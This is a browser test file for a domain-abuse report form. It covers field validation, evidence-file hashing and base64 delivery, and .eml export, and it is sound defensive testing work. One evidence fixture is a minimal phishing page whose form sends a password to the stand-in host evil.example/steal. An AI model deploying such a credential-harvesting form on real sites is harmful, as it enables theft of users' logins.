// The domain-abuse report (§2, issue 4): category, affected domains and URLs, description and
// evidence files. The receiver gets each file with its SHA-256 and its bytes as base64.

import { test } from 'node:test';
import { readFile } from 'node:fs/promises';
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';

import { axe, scenario } from '../support/browser.mjs';
import { RECEIVER_PATH, configWithEndpoint } from '../support/server.mjs';
import { answers, decodeMailto } from '../support/portal.mjs';

const TARGETS_LABEL = 'Affected domains or addresses (URLs)';
const PHISHING = 'Phishing (fake pages that steal credentials)';
const FILES = [
  { name: 'fake-login.html', mimeType: 'text/html', buffer: Buffer.from('<form action="https://evil.example/steal">Passwort: <input></form>\n') },
  // Binary, with NUL, CR, LF and 0xFF: base64 must carry them unchanged.
  { name: 'screenshot.png', mimeType: 'image/png', buffer: Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0xff]), randomBytes(3000)]) },
];
const sha256 = (buffer) => createHash('sha256').update(buffer).digest('hex');

const abuseConfig = () =>
  configWithEndpoint({ channels: { abuse_report: { mailbox: 'abuse@example.org', endpoint: RECEIVER_PATH } } });

async function openAbuseForm(page) {
  await page.goto('/');
  await page.getByRole('link', { name: 'Report domain abuse' }).click();
  await page.getByRole('heading', { level: 1, name: 'Domain abuse report' }).waitFor();
  assert.equal(new URL(page.url()).pathname, '/abuse_report');
}

scenario(
  test,
  'an abuse report without category and target is refused with the error summary',
  { config: abuseConfig() },
  async ({ page, server }) => {
    await openAbuseForm(page);
    await axe(page, 'empty abuse form');
    await page.getByLabel('Email address').fill('anna@example.de');
    await page.getByLabel('Description of the problem').fill('Eine gefälschte Bankseite.');
    await page.getByRole('button', { name: 'Continue' }).click();

    const summary = page.getByRole('alert');
    await summary.getByRole('link', { name: 'Choose the kind of abuse.' }).waitFor();
    const links = await summary.getByRole('link').allTextContents();
    assert.deepEqual(links, ['Choose the kind of abuse.', 'Enter at least one affected domain or address (URL).']);
    await axe(page, 'abuse form with errors');

    // The summary's link lands on the first radio of the group, whose fieldset names the error.
    await summary.getByRole('link', { name: 'Choose the kind of abuse.' }).click();
    assert.equal(await page.evaluate(() => document.activeElement.id), 'abuse_category');
    const group = page.getByRole('group', { name: 'Kind of abuse' });
    assert.match(await group.getAttribute('aria-describedby'), /abuse_category-error/);
    assert.equal(await group.getByRole('radio').count(), 6);
    assert.equal(server.posts().length, 0, 'nothing sent');
  },
);

scenario(
  test,
  'an abuse report with two evidence files reaches the receiver with their hashes and bytes',
  { config: abuseConfig(), receiver: [{ status: 201, json: { reference: 'A-7' } }] },
  async ({ page, server }) => {
    await openAbuseForm(page);
    await page.getByText('after reloading the page, please choose them again', { exact: false }).waitFor();

    await page.getByLabel('Email address').fill('anna@example.de');
    await page.getByRole('radio', { name: PHISHING }).check();
    await page.getByLabel(TARGETS_LABEL).fill('https://login.bank-example.de/verify?id=1\nevil.example');
    await page.getByLabel('Description of the problem').fill('Gefälschte Anmeldeseite einer Bank.');
    await page.getByLabel('Evidence (files)').setInputFiles(FILES);

    // Each chosen file is listed with its SHA-256 as soon as it is read.
    const list = page.locator('#evidence-list li');
    await page.waitForFunction(() => document.querySelectorAll('#evidence-list li').length === 2);
    const listed = await list.allTextContents();
    FILES.forEach((file, i) => assert.ok(listed[i].includes(sha256(file.buffer)), `${file.name}: ${listed[i]}`));
    await axe(page, 'abuse form with files');

    await page.getByRole('button', { name: 'Continue' }).click();
    await page.getByRole('heading', { level: 1, name: 'Check your answers before sending' }).waitFor();
    const shown = await answers(page);
    assert.equal(shown['Kind of abuse'], PHISHING);
    assert.equal(shown[TARGETS_LABEL], 'login.bank-example.de, evil.example\nhttps://login.bank-example.de/verify?id=1');
    assert.equal(shown.Subject, 'Abuse report: Gefälschte Anmeldeseite einer Bank.');
    for (const file of FILES) assert.ok(shown['Evidence (files)'].includes(`${file.name}`) && shown['Evidence (files)'].includes(sha256(file.buffer)));
    await axe(page, 'abuse check page');

    await page.getByRole('button', { name: 'Send report' }).click();
    await page.getByRole('heading', { level: 1, name: 'Report sent' }).waitFor();
    await axe(page, 'abuse receipt');

    const posts = server.posts();
    assert.equal(posts.length, 1, 'exactly one POST');
    const sent = posts[0].json;
    assert.equal(sent.kind, 'abuse_report');
    assert.equal(sent.abuse_category, 'phishing');
    assert.deepEqual(sent.urls, ['https://login.bank-example.de/verify?id=1']);
    assert.deepEqual(sent.domains.map((d) => d.ascii), ['login.bank-example.de', 'evil.example']);
    assert.equal(sent.complainant.email, 'anna@example.de');
    assert.equal(sent.evidence.length, 2);
    FILES.forEach((file, i) => {
      const got = sent.evidence[i];
      assert.deepEqual(Object.keys(got).sort(), ['content_base64', 'name', 'sha256', 'size', 'type']);
      assert.equal(got.name, file.name);
      assert.equal(got.type, file.mimeType);
      assert.equal(got.size, file.buffer.length);
      assert.equal(got.sha256, sha256(file.buffer));
      assert.ok(Buffer.from(got.content_base64, 'base64').equals(file.buffer), `${file.name}: bytes differ`);
    });

    // Files are never kept in browser storage.
    const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }));
    assert.ok(!stored.includes(sent.evidence[1].content_base64.slice(0, 40)), 'file content in storage');
  },
);

scenario(
  test,
  'by email, a report with files asks for the .eml, which carries every file byte for byte',
  { config: { channels: { abuse_report: { mailbox: 'abuse@example.org' } } } },
  async ({ page }) => {
    await openAbuseForm(page);
    await page.getByLabel('Email address').fill('anna@example.de');
    await page.getByRole('radio', { name: PHISHING }).check();
    await page.getByLabel(TARGETS_LABEL).fill('evil.example');
    await page.getByLabel('Description of the problem').fill('Schadsoftware zum Download.');
    await page.getByLabel('Evidence (files)').setInputFiles(FILES);
    await page.waitForFunction(() => document.querySelectorAll('#evidence-list li').length === 2);
    await page.getByRole('button', { name: 'Continue' }).click();
    await page.getByRole('heading', { level: 2, name: 'Send by email' }).waitFor();
    await page.getByText('Your report has files that an email link cannot carry.', { exact: false }).waitFor();
    await axe(page, 'abuse check page, email only');

    const href = await page.getByRole('link', { name: 'Open email program' }).getAttribute('href');
    const mail = decodeMailto(href);
    assert.equal(mail.to, 'abuse@example.org');
    const fileName = /Please attach the downloaded file (complaint-[0-9a-f]{8}\.eml)/.exec(mail.fields.body)?.[1];
    assert.ok(fileName, `the body names the .eml:\n${mail.fields.body}`);
    for (const file of FILES) assert.ok(!href.includes(file.buffer.toString('base64').slice(0, 24)), 'no file content in the URL');

    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download message (.eml)' }).click()]);
    assert.equal(download.suggestedFilename(), fileName);
    const raw = await readFile(await download.path(), 'latin1');
    for (const file of FILES) {
      const part = new RegExp(`filename="${file.name.replace('.', '\\.')}"\r\nContent-Transfer-Encoding: base64\r\n\r\n([A-Za-z0-9+/=\r\n]+?)\r\n--`).exec(raw);
      assert.ok(part, `${file.name} is attached`);
      assert.ok(Buffer.from(part[1].replace(/\r\n/g, ''), 'base64').equals(file.buffer), `${file.name}: bytes differ`);
    }
  },
);
